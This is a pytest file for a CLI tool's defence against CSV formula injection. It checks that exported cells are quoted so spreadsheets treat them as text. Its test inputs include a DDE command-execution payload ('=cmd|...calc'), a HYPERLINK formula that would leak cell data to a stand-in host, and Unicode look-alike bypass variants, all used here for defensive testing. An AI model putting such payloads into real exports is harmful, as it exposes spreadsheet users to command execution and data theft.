"""Text that a spreadsheet would run as a formula is marked as text in CSV for spreadsheets, and unchanged elsewhere."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from flows.cli.cli import main
from flows.cli.output_rows import write_rows
from warehouse.export import export
from warehouse.spreadsheet import harmless

Capture = pytest.CaptureFixture[str]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+49 30 1234",
        "-5",
        "@SUM(A1)",
        "=cmd|'/c calc'!A1",
        "\t=1",
        "\tharmless, were there no tab",
        "\r=1",
        "\n=1",
        "\0=1",
        "  =1",
        "\u00a0=1",
        "\u200b\ufeff=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM",
        "﹦1",
        " \u3000＝1",
        '=HYPERLINK("https://a.example/?"&A1)',
    ],
)
def test_formulas_become_text(text: str) -> None:
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -1.5, Decimal("-2.50"), True, None, float("-inf")])
def test_numbers_stay_numbers(value: object) -> None:
    assert harmless(value) is value


@pytest.mark.parametrize("text", ["", "Dam talks", "5-1", "1=1", "a@b.example", "'quoted", "— he said", "2026-01-01"])
def test_other_text_stays(text: str) -> None:
    assert harmless(text) == text


def test_what_is_written_as_text_is_looked_at_as_text() -> None:
    assert harmless(timedelta(days=-1)) == "'-1 day, 0:00:00"
    assert harmless(date(2026, 1, 1)) == "2026-01-01"
    assert harmless(["=1", "ä"]) == '["=1", "ä"]'


def test_every_text_is_quoted_so_that_no_separator_opens_a_cell() -> None:
    written = io.StringIO()
    rows = [("a;=1", -5, None), ('say "=1"', 1.5, "x\r=1")]
    assert write_rows(("=head", "n", "more"), rows, "csv", written, spreadsheet=True) == 2
    assert written.getvalue().splitlines(keepends=False)[:2] == ['"\'=head","n","more"', '"a;=1",-5,""']
    assert list(csv.reader(io.StringIO(written.getvalue(), newline="")))[2] == ['say "=1"', "1.5", "x\r=1"]


QUERY = "SELECT '=1+1' AS \"=a\", -5 AS n, ' ＠x' AS t, ['-1'] AS list, NULL AS nothing"
GUARDED = [["'=a", "n", "t", "list", "nothing"], ["'=1+1", "-5", "' ＠x", '["-1"]', ""]]


def test_sql_for_a_spreadsheet(sample_data: Path, capsys: Capture) -> None:
    for words in (["--format", "csv", "--spreadsheet"], ["--spreadsheet"]):
        assert main(["--data", str(sample_data), "sql", QUERY, *words]) == 0
        assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == GUARDED


def test_export_for_a_spreadsheet(sample_data: Path, tmp_path: Path, capsys: Capture) -> None:
    words = ["--data", str(sample_data), "export", str(tmp_path / "x.csv"), "--format", "csv"]
    assert main([*words, "--query", QUERY, "--spreadsheet"]) == 0
    assert list(csv.reader(io.StringIO((tmp_path / "x.csv").read_text("utf-8")))) == GUARDED
    assert main([*words, "--spreadsheet"]) == 0
    header, *articles = csv.reader(io.StringIO((tmp_path / "x.csv").read_text("utf-8"), newline=""))
    assert "headline" in header and len(articles) == 22
    assert [path.name for path in tmp_path.iterdir()] == ["x.csv"]
    capsys.readouterr()


def test_programs_get_cells_as_they_are(sample_data: Path, tmp_path: Path, capsys: Capture) -> None:
    assert main(["--data", str(sample_data), "sql", QUERY, "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines()[1].startswith("=1+1,-5, ＠x,")
    with duckdb.connect() as connection:
        export(connection, tmp_path / "y.csv", format="csv", query=QUERY)
    assert (tmp_path / "y.csv").read_text("utf-8").splitlines()[1].startswith("=1+1,-5, ＠x,")


@pytest.mark.parametrize(
    "words",
    [
        ["sql", QUERY, "--spreadsheet", "--format", "json"],
        ["sql", QUERY, "--spreadsheet", "--json"],
        ["export", "x", "--spreadsheet"],
    ],
)
def test_only_csv_is_for_spreadsheets(words: list[str], sample_data: Path, capsys: Capture) -> None:
    assert main(["--data", str(sample_data), *words]) == 2
    assert "--spreadsheet" in capsys.readouterr().err
